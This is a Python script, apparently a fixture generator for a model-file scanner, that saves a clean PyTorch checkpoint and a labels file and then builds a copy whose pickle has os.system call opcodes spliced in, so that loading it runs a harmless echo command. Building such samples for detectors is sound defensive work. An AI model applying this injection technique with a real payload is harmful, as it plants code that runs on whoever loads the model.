"""Makes the models of examples/first-gate: two as their libraries save them, and one that runs a command when it is loaded.

Run: python3 tools/examples/first_gate.py examples/first-gate/models   (needs torch and numpy, see tools/corpus/requirements.txt)
The payload only prints a line; nothing here ever loads the file.
"""

import io
import pathlib
import sys
import zipfile

import numpy
import torch

PAYLOAD = b"echo 'this ran because somebody loaded the model'"


def clean(directory: pathlib.Path) -> None:
    torch.manual_seed(0)
    encoder = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    torch.save(encoder.state_dict(), directory / "encoder.pt")
    numpy.save(directory / "labels.npy", numpy.array(["negative", "positive"]))


def malicious(directory: pathlib.Path) -> None:
    """A checkpoint like encoder.pt, with four opcodes more in front of its pickle: import, argument, call, forget."""
    original = zipfile.ZipFile(directory / "encoder.pt")
    call = b"cos\nsystem\n" + b"X" + len(PAYLOAD).to_bytes(4, "little") + PAYLOAD + b"\x85R0"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for info in original.infolist():
            data = original.read(info)
            name = info.filename.replace("encoder/", "detector/")
            if name.endswith("/data.pkl"):
                data = data[:2] + call + data[2:]
            archive.writestr(zipfile.ZipInfo(name), data)
    (directory / "detector.pt").write_bytes(out.getvalue())


if __name__ == "__main__":
    target = pathlib.Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    clean(target)
    malicious(target)
